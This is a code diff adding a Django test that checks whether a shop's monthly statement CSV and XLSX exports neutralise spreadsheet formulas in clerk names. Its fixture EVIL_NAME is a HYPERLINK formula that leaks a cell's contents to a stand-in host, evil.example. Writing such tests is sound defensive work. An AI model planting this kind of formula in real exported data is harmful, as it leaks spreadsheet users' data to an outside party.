@@ -293,6 +293,34 @@ def test_statement_page_and_exports(client, vouchers):
     assert client.get(f"/shop/statements/{statement.pk}/exe/").status_code == 404
 
 
+EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'
+
+
+def statement_rows(client, statement, language: str) -> list[list[str]]:
+    client.cookies["django_language"] = language
+    response = client.get(f"/shop/statements/{statement.pk}/csv/")
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def test_statement_csv_neutralises_formulas_in_typed_names(client, vouchers):
+    shop, clerk = make_shop("数式商店")
+    clerk.full_name = EVIL_NAME
+    clerk.save(update_fields=["full_name"])
+    tokyo = timezone.get_default_timezone()
+    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
+    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 7, 10, 12, tzinfo=tokyo))
+    statement = statement_generate(shop=shop, month=dt.date(2026, 7, 1))
+    client.force_login(clerk)
+    rows = statement_rows(client, statement, "ja")
+    assert rows[1][4] == "'" + EVIL_NAME
+    assert rows[1][2:4] == ["500", "500"]
+    book = openpyxl.load_workbook(
+        io.BytesIO(client.get(f"/shop/statements/{statement.pk}/xlsx/").content)
+    )
+    cell = book.active.cell(row=2, column=5)
+    assert (cell.value, cell.data_type) == (EVIL_NAME, "s")
+
+
 # --- Onboarding ---------------------------------------------------------------------
 
 
